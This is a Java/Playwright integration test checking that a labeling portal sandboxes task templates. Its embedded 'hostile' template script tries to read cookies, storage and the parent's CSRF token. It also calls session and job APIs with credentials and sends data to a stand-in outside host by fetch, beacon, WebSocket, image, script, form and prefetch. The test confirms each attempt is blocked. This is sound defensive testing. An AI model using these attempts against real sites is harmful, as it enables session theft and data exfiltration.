package dev.labelops.engine.portal;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Frame;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.ColorScheme;
import com.sun.net.httpserver.HttpServer;
import dev.labelops.engine.Engine;
import dev.labelops.engine.EngineSettings;
import dev.labelops.engine.labeling.LabelingFixture;
import dev.labelops.engine.labeling.Person;
import dev.labelops.engine.portal.app.Chromium;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Queue;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.atomic.AtomicReference;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import software.amazon.awssdk.core.sync.RequestBody;

/**
 * A template that tries everything, in Chromium: it gets neither cookies nor storage, nothing of
 * the page around it or of other tasks, and no host that is not declared.
 */
class HostileTemplateIT {
  private static final String TEMPLATE =
      """
      <script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
      <crowd-form><crowd-classifier name="crowd-classifier" header="h" categories="['good', 'bad']">
      <classification-target>{{ task.input.taskObject }}</classification-target></crowd-classifier></crowd-form>
      <script>
      const tried = async f => { try { return String(await f()); } catch (e) { return 'refused: ' + e.name; } };
      const OUT = 'OUTSIDE';
      window.attempt = async (task) => ({
        origin: await tried(() => self.origin),
        cookie: await tried(() => document.cookie),
        parent: await tried(() => parent.document.title),
        portalWindow: await tried(() => parent.secret),
        address: await tried(() => top.location.href),
        sibling: await tried(() => parent.frames[1].document.title),
        element: await tried(() => String(frameElement)),
        storage: await tried(() => localStorage.getItem('secret')),
        session: await tried(() => sessionStorage.getItem('secret')),
        database: await tried(() => new Promise((ok, no) => { const r = indexedDB.open('x'); r.onsuccess = () => ok('open'); r.onerror = () => no(r.error); })),
        worker: await tried(() => navigator.serviceWorker.register('/_labelops/elements/sw.js')),
        navigate: await tried(() => { top.location = OUT + '/top'; return 'asked'; }),
        me: await tried(() => fetch('/_labelops/api/sessions/current', {credentials: 'include'}).then(r => r.text())),
        jobs: await tried(() => fetch('/_labelops/api/jobs', {credentials: 'include'}).then(r => r.text())),
        blind: await tried(() => fetch('/_labelops/api/tasks/' + task + '/release', {method: 'POST', mode: 'no-cors', credentials: 'include'}).then(r => r.type)),
        leave: await tried(() => fetch('/_labelops/api/sessions/current', {method: 'DELETE', mode: 'cors', credentials: 'include'}).then(r => r.status)),
        fetched: await tried(() => fetch(OUT + '/fetch', {mode: 'no-cors'}).then(r => r.type)),
        beacon: await tried(() => navigator.sendBeacon(OUT + '/beacon', 'x')),
        socket: await tried(() => new Promise((ok, no) => { const s = new WebSocket(OUT.replace('http', 'ws') + '/socket'); s.onopen = () => ok('open'); s.onerror = () => no(new Error()); })),
        image: await tried(() => new Promise(ok => { const i = new Image(); i.onload = () => ok('loaded'); i.onerror = () => ok('error'); i.src = OUT + '/image'; })),
        script: await tried(() => new Promise(ok => { const s = document.createElement('script'); s.onload = () => ok('loaded'); s.onerror = () => ok('error'); s.src = OUT + '/script'; document.body.append(s); })),
        form: await tried(() => { const f = document.createElement('form'); f.action = OUT + '/form'; f.method = 'post'; document.body.append(f); f.submit(); return 'asked'; }),
        prefetch: await tried(() => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = OUT + '/prefetch'; document.head.append(l); return 'asked'; }),
        self: await tried(() => { const f = document.createElement('iframe'); f.src = OUT + '/frame'; document.body.append(f); return 'asked'; }),
      });
      </script>
      """;

  private static final String ASK =
      "fetch('/_labelops/api/sessions/current', {credentials: 'include'}).then(() => 'read', e => e.name)";

  @TempDir static Path folder;
  private static Engine engine;
  private static LabelingFixture fixture;
  private static HttpServer outside;
  private static Chromium chromium;
  private static final Queue<String> REACHED = new ConcurrentLinkedQueue<>();

  @BeforeAll
  static void start() throws Exception {
    chromium = Chromium.open();
    outside = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    outside.createContext(
        "/",
        exchange -> {
          REACHED.add(exchange.getRequestURI().getPath());
          exchange.sendResponseHeaders(200, -1);
          exchange.close();
        });
    outside.start();
    engine = Engine.start(EngineSettings.local(folder));
    fixture = LabelingFixture.open(engine, "eu-west-1");
    String address = "http://127.0.0.1:" + outside.getAddress().getPort();
    fixture.start(
        "hostile",
        "TextMultiClass",
        fixture.texts("hostile", 30),
        wish ->
            wish.human(
                h ->
                    h.uiConfig(
                        u ->
                            u.uiTemplateS3Uri(
                                fixture.put(
                                    "hostile.liquid", TEMPLATE.replace("OUTSIDE", address))))));
  }

  @AfterAll
  static void stop() {
    if (chromium != null) {
      chromium.close();
      engine.close();
      outside.stop(0);
    }
  }

  @BeforeEach
  void nobodyWasReached() {
    REACHED.clear();
  }

  /** A signed-in page of the portal, with secrets in its window and storage. */
  private static Page portal(String name) {
    fixture.worker(name);
    Page page = chromium.context(1280, 800, ColorScheme.LIGHT, false).newPage();
    page.navigate(engine.address() + "/_labelops/portal/");
    page.evaluate(
        """
        async ([username]) => {
          const answer = await fetch('/_labelops/api/sessions', {method: 'POST',
            headers: {'Content-Type': 'application/json'},
            body: JSON.stringify({username, password: 'Permanent-1', cookie: true})});
          window.secret = (await answer.json()).csrfToken;
          localStorage.setItem('secret', 'of the portal');
          sessionStorage.setItem('secret', 'of the portal');
          window.api = (method, path) => fetch('/_labelops/api/' + path,
            {method, headers: {'X-CSRF-Token': window.secret}}).then(r => r.status);
          window.take = more => fetch('/_labelops/api/jobs/hostile/tasks' + more,
            {method: 'POST', headers: {'X-CSRF-Token': window.secret}}).then(r => r.status === 201 ? r.json() : null);
          window.show = url => new Promise(ok => {
            const frame = document.createElement('iframe');
            frame.onload = () => {
              const channel = new MessageChannel();
              window.messages ??= [];
              channel.port1.onmessage = event => window.messages.push(event.data);
              frame.contentWindow.postMessage({type: 'labelops:connect', version: 1}, '*', [channel.port2]);
              ok();
            };
            frame.src = url;
            document.body.append(frame);
          });
        }
        """,
        List.of(name + "@eu-west-1.example.com"));
    return page;
  }

  @SuppressWarnings("unchecked")
  private static Map<String, Object> take(Page page, String more) {
    AtomicReference<Object> task = new AtomicReference<>();
    page.waitForCondition(
        () -> {
          task.set(page.evaluate("more => take(more)", more));
          return task.get() != null;
        });
    return (Map<String, Object>) task.get();
  }

  @Test
  @SuppressWarnings("unchecked")
  void aTemplateReachesNothing() {
    Page page = portal("ann");
    Map<String, Object> task = take(page, "");
    Map<String, Object> next = take(page, "?after=" + task.get("taskId"));
    page.evaluate("url => show(url)", task.get("taskUrl"));
    page.evaluate("url => show(url)", next.get("taskUrl"));
    Frame frame = page.frames().get(1);
    frame.waitForFunction("customElements.get('crowd-form') !== undefined");

    Map<String, String> got =
        (Map<String, String>) frame.evaluate("task => attempt(task)", task.get("taskId"));

    assertThat(got.get("origin")).isEqualTo("null");
    for (String refused :
        List.of(
            "cookie",
            "parent",
            "portalWindow",
            "address",
            "sibling",
            "database",
            "worker",
            "navigate",
            "me",
            "jobs",
            "leave",
            "fetched",
            "socket")) {
      assertThat(got.get(refused)).as(refused).startsWith("refused: ");
    }
    assertThat(got.get("storage")).as("the portal's storage").isEqualTo("null");
    assertThat(got.get("session")).as("the portal's session storage").isEqualTo("null");
    assertThat(got.get("element")).isEqualTo("null");
    assertThat(got.get("image")).isEqualTo("error");
    assertThat(got.get("script")).isEqualTo("error");
    assertThat(page.evaluate("id => api('POST', 'tasks/' + id + '/shown')", task.get("taskId")))
        .as("the worker still has the task and the session")
        .isEqualTo(200);
    assertThat(page.url()).isEqualTo(engine.address() + "/_labelops/portal/");
    assertThat(REACHED).as("what the outside saw").isEmpty();
    page.waitForFunction("messages.some(m => m.type === 'ready')");
    page.waitForFunction(
        "['connect-src', 'img-src', 'script-src'].every(d => messages.some(m => m.type === 'violation'"
            + " && m.directive === d))");
    page.context().close();
  }

  @Test
  void aFrameLeadsNowhereElse() {
    Page page = portal("bea");
    Map<String, Object> task = take(page, "");
    page.evaluate("url => show(url)", task.get("taskUrl"));
    page.frames()
        .get(1)
        .evaluate("setTimeout(() => location = '%s/away')".formatted(outsideAddress()));
    page.waitForCondition(() -> page.frames().get(1).url().startsWith("chrome-error:"));
    assertThat(REACHED).isEmpty();
    page.context().close();
  }

  @Test
  void aTicketOpenedOutsideOfTheFrameHasNoOriginEither() {
    Page page = portal("carl");
    Map<String, Object> task = take(page, "");
    page.navigate(engine.address().resolve(task.get("taskUrl").toString()).toString());
    assertThat(page.evaluate("self.origin")).isEqualTo("null");
    assertThat(page.evaluate(ASK)).isEqualTo("TypeError");
    page.context().close();
  }

  /** Objects have the portal's address: a page among them must not act in the portal. */
  @Test
  void aPageAmongTheObjectsHasNoOrigin() {
    fixture.s3.putObject(
        b -> b.bucket(fixture.bucket).key("evil.html").contentType("text/html"),
        RequestBody.fromString("<!doctype html><title>evil</title>"));
    Page page = portal("dora");
    fixture.start(
        "linked",
        "TextMultiClass",
        fixture.put("linked.manifest", "{\"source\":\"" + fixture.uri("evil.html") + "\"}"),
        wish ->
            wish.human(
                h ->
                    h.uiConfig(
                        u ->
                            u.uiTemplateS3Uri(
                                fixture.put(
                                    "linked.liquid",
                                    "<a id=l href=\"{{ task.input.taskObject | grant_read_access }}\">"
                                        + "</a>")))));
    Person emil = fixture.worker("emil");
    String html = emil.get(fixture.awaitTask(emil, "linked").path("taskUrl").asText()).text();
    String link = html.replaceAll("(?s).*href=\"([^\"]+)\".*", "$1").replace("&amp;", "&");
    assertThat(link).startsWith(engine.address() + "/" + fixture.bucket + "/evil.html?");

    page.navigate(link);

    assertThat(page.title()).isEqualTo("evil");
    assertThat(page.evaluate("self.origin")).isEqualTo("null");
    assertThat(page.evaluate(ASK)).isEqualTo("TypeError");
    page.context().close();
  }

  private static String outsideAddress() {
    return "http://127.0.0.1:" + outside.getAddress().getPort();
  }
}
